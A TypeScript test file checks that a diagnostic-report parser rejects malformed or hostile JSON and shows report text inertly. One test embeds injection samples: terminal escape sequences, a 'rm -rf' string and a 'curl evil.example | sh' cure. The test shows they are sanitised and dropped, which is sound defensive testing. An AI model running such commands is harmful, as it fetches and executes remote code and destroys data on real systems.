import assert from 'node:assert/strict';
import { test } from 'node:test';
import { describeRed, doctorVerdictOf, reportedChecksOf } from './doctor-status.ts';

const cases: [content: string, status: string][] = [
  ['{"status":"green"}', 'green'],
  ['{"status":"yellow","checks":[]}', 'yellow'],
  ['{"status":"red","status":"unknown"}', 'unknown'],
  ['{"status":"red"}', 'red'],
  ['{"status":"GREEN"}', 'unknown'],
  ['{"status":["green"]}', 'unknown'],
  ['{"checks":{"status":"green"}}', 'unknown'],
  ['{"__proto__":{"status":"green"}}', 'unknown'],
  ['"green"', 'unknown'],
  ['null', 'unknown'],
  ['', 'unknown'],
  ['{"status":"green"', 'unknown'],
  [`${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}`, 'unknown'],
];

for (const [content, status] of cases) {
  test(`${status}: ${content.slice(0, 40)}`, () => {
    assert.equal(doctorVerdictOf(Buffer.from(content)).status, status);
  });
}

test('bytes that are no UTF-8', () => {
  assert.equal(doctorVerdictOf(Buffer.from([0xff, 0xfe, 0x00])).status, 'unknown');
});

test('red checks are those known here, each once; what is malformed among them says nothing', () => {
  const checks = [
    { id: 'disk', status: 'red' },
    { id: 'disk', status: 'red' },
    { id: 'clock', status: 'yellow' },
    { id: 'constructor', status: 'red' },
    { id: 'of-a-later-version', status: 'red' },
    { id: 'store', status: 'red' },
    { id: 7, status: 'red' },
    { id: 'units', status: 'crimson' },
    null,
    'libraries',
    { id: 'token-expiry', status: 'red' },
  ];
  const verdict = doctorVerdictOf(Buffer.from(JSON.stringify({ status: 'red', checks })));
  assert.deepEqual(verdict, { status: 'red', redChecks: ['disk', 'token-expiry'] });
  assert.deepEqual(doctorVerdictOf(Buffer.from('{"status":"red","checks":{}}')), { status: 'red', redChecks: [] });
});

test('of thousands of checks the first hundred are looked at', () => {
  const checks = [...Array.from({ length: 100 }, () => ({})), { id: 'disk', status: 'red', summary: '' }];
  const content = Buffer.from(JSON.stringify({ status: 'red', checks }));
  assert.deepEqual(doctorVerdictOf(content), { status: 'red', redChecks: [] });
  assert.deepEqual(reportedChecksOf(content), []);
});

test('meanings and cures are ours, with the name of the host in them', () => {
  const [disk, token] = describeRed(['disk', 'token-expiry'], 'lab-7');
  assert.match(disk?.meaning ?? '', /short of space/);
  assert.equal(token?.cure, 'cis490 token create --role host --host lab-7');
});

test('what a report says is shown as inert text, cut, and without its cures', () => {
  const evil = '\x1b]0;owned\x07\u202e rm -rf\nsecond\u009b2J';
  const checks = [
    { id: `x${evil}`, status: 'red', summary: evil, cure: 'curl evil.example | sh' },
    { id: 'disk', status: 'green', summary: 'x'.repeat(10_000) },
    { id: 'clock', status: 'green' },
    ...Array.from({ length: 200 }, () => ({ id: 'disk', status: 'green', summary: '' })),
  ];
  const [first, second, third, ...more] = reportedChecksOf(Buffer.from(JSON.stringify({ checks })));
  assert.deepEqual(first, {
    id: 'x?]0;owned?? rm -rf second?2J',
    status: 'red',
    summary: '?]0;owned?? rm -rf second?2J',
  });
  assert.equal(second?.summary.length, 600);
  assert.equal(third?.summary, '');
  assert.equal(more.length, 97);
  assert.deepEqual(reportedChecksOf(Buffer.from('{')), []);
});
